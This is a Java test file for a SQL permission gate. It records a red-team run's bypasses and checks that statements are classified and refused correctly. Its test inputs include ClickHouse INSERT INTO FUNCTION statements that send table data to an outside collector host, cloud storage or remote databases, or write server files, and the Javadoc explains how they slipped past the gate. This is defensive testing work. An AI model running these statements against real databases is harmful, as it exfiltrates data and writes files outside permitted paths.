package dev.snowchat.sqlgate.issues;

import static org.assertj.core.api.Assertions.assertThat;

import dev.snowchat.sqlgate.Dialect;
import dev.snowchat.sqlgate.PermissionMode;
import dev.snowchat.sqlgate.Rule;
import dev.snowchat.sqlgate.SqlGate;
import dev.snowchat.sqlgate.StatementKind;
import dev.snowchat.sqlgate.Verdict;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The eighth red-team run (2026-12-06): GENERIC statements that broke a mode's promise, from the
 * engines' documentation (none of these engines runs here).
 *
 * <ul>
 *   <li>ClickHouse's {@code INSERT INTO [TABLE] FUNCTION f(...)} writes the rows through a table
 *       function: {@code file()} (a server file), {@code url()} (an HTTP request to any host),
 *       {@code s3()}, {@code remote()}, {@code mysql()}, ... It was DML, allowed in read_write,
 *       because a name before {@code (} after {@code FUNCTION} or {@code INTO} counted as the
 *       object written, so the function list never saw {@code url}: data sent out of the
 *       database, a file written outside the path allowlist.
 *   <li>SQL Server's {@code UPDATE STATISTICS t} (maintenance, as ANALYZE, which is ADMIN) was
 *       DML by its first word, also after another statement without {@code ;}; and an update of
 *       a table named {@code statistics} ({@code UPDATE statistics s SET a = 1}) was refused as
 *       a {@code SET} statement.
 *   <li>MySQL's and DB2's {@code GET DIAGNOSTICS @x = ROW_COUNT} (sets session variables, as
 *       {@code SET @x} does, which is ADMIN) was TRANSFER, Snowflake's {@code GET}.
 *   <li>DB2's isolation clauses {@code WITH RR USE AND KEEP EXCLUSIVE LOCKS}, {@code ... SHARE
 *       LOCKS} and {@code WITH CS KEEP LOCKS} lock the rows read, as {@code FOR UPDATE} (DML)
 *       does; only {@code KEEP UPDATE LOCKS} was DML, by its word UPDATE.
 * </ul>
 */
class GenericModePromiseRun8Test {

  @ParameterizedTest
  @ValueSource(strings = {"INSERT INTO FUNCTION file('/tmp/out.csv', 'CSV') SELECT * FROM t",
      "INSERT INTO TABLE FUNCTION url('http://collector.example/x', 'CSV', 'a String')"
          + " SELECT secret FROM t",
      "INSERT INTO FUNCTION s3('https://bucket.s3.amazonaws.com/x.csv', 'k', 's', 'CSV')"
          + " SELECT * FROM t",
      "INSERT INTO FUNCTION remoteSecure('other:9440', 'db', 't', 'u', 'p') SELECT * FROM t",
      "INSERT INTO FUNCTION mysql('h:3306', 'db', 't', 'u', 'p') SELECT 1",
      "INSERT INTO FUNCTION postgresql('h:5432', 'db', 't', 'u', 'p') SELECT 1",
      "INSERT INTO FUNCTION hdfs('hdfs://x/y', 'CSV', 'a int') SELECT 1",
      "INSERT INTO FUNCTION azureBlobStorage('c', 'x', 'b') VALUES (1)",
      "INSERT INTO FUNCTION \"file\"('/tmp/x') SELECT 1",
      "INSERT INTO FUNCTION `file`('/tmp/x') SELECT 1",
      "INSERT INTO /* x */ TABLE /* y */ FUNCTION file ('/tmp/x') SELECT 1",
      "insert into function url('http://x/', 'CSV', 'a String') values ('k')",
      "INSERT INTO FUNCTION db.remote('h', 'db', 't') SELECT 1"})
  void generic_insertIntoTableFunction_refusedInReadWrite(String sql) {
    Verdict v = gate(PermissionMode.READ_WRITE).check(sql);
    assertThat(v.allowed()).as(sql).isFalse();
    assertThat(v.rule()).isEqualTo(Rule.FUNCTION_NOT_ALLOWED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"INSERT INTO t (a, b) SELECT 1, 2", "INSERT INTO s.t (a) VALUES (1)",
      "INSERT INTO TABLE t VALUES (1)", "INSERT INTO t VALUES (1)",
      "UPDATE statistics SET a = 1", "UPDATE statistics s SET a = 1 WHERE b = 2",
      "UPDATE statistics AS s SET a = 1", "UPDATE app.statistics SET a = 1",
      "UPDATE t SET statistics = 1"})
  void generic_dataWrites_stayDmlInReadWrite(String sql) {
    Verdict v = gate(PermissionMode.READ_WRITE).check(sql);
    assertThat(v.allowed()).as("%s -> %s", sql, v.reason()).isTrue();
    assertThat(v.kind()).isEqualTo(StatementKind.DML);
  }

  @ParameterizedTest
  @ValueSource(strings = {"UPDATE STATISTICS t", "UPDATE STATISTICS dbo.t WITH FULLSCAN",
      "UPDATE STATISTICS t ix_a", "UPDATE STATISTICS t (ix_a, ix_b) WITH SAMPLE 50 PERCENT",
      "update statistics t", "UPDATE t SET a = 1 UPDATE STATISTICS t",
      "DELETE FROM t WHERE a = 1 UPDATE STATISTICS t",
      "GET DIAGNOSTICS @n = ROW_COUNT", "GET CURRENT DIAGNOSTICS @n = NUMBER",
      "GET STACKED DIAGNOSTICS CONDITION 1 @m = MESSAGE_TEXT"})
  void generic_maintenanceAndSessionVariables_areAdmin(String sql) {
    Verdict v = gate(PermissionMode.READ_WRITE).check(sql);
    assertThat(v.allowed()).as(sql).isFalse();
    assertThat(v.kind()).as(sql).isEqualTo(StatementKind.ADMIN);
    assertThat(gate(PermissionMode.FULL).check(sql).allowed()).as(sql).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"SELECT * FROM t WITH RR USE AND KEEP EXCLUSIVE LOCKS",
      "SELECT * FROM t WITH RS USE AND KEEP SHARE LOCKS",
      "SELECT * FROM t WITH RS USE AND KEEP UPDATE LOCKS", "SELECT * FROM t WITH CS KEEP LOCKS",
      "SELECT a FROM t WHERE a > 1 FOR READ ONLY WITH RR USE AND KEEP EXCLUSIVE LOCKS",
      "SELECT * FROM (SELECT * FROM t WITH RR USE AND KEEP EXCLUSIVE LOCKS) x"})
  void generic_db2LockRequestClauses_areDml(String sql) {
    Verdict v = gate(PermissionMode.READ_ONLY).check(sql);
    assertThat(v.allowed()).as(sql).isFalse();
    assertThat(v.kind()).as(sql).isEqualTo(StatementKind.DML);
  }

  @ParameterizedTest
  @ValueSource(strings = {"SELECT keep, locks FROM t", "SELECT * FROM t WITH UR",
      "SELECT * FROM t WITH RR", "SELECT statistics FROM t", "SELECT * FROM statistics"})
  void generic_lookAlikes_stayReads(String sql) {
    Verdict v = gate(PermissionMode.READ_ONLY).check(sql);
    assertThat(v.allowed()).as("%s -> %s", sql, v.reason()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"GET @st/x.csv 'file:///data/'", "GET @~/x 'file:///data/in/'"})
  void snowflake_getStaysATransfer(String sql) {
    for (Dialect d : List.of(Dialect.GENERIC, Dialect.SNOWFLAKE)) {
      assertThat(SqlGate.builder().dialect(d).build().check(sql).kind()).as("%s", d)
          .isEqualTo(StatementKind.TRANSFER);
    }
  }

  private static SqlGate gate(PermissionMode mode) {
    return SqlGate.builder().dialect(Dialect.GENERIC).mode(mode).build();
  }
}
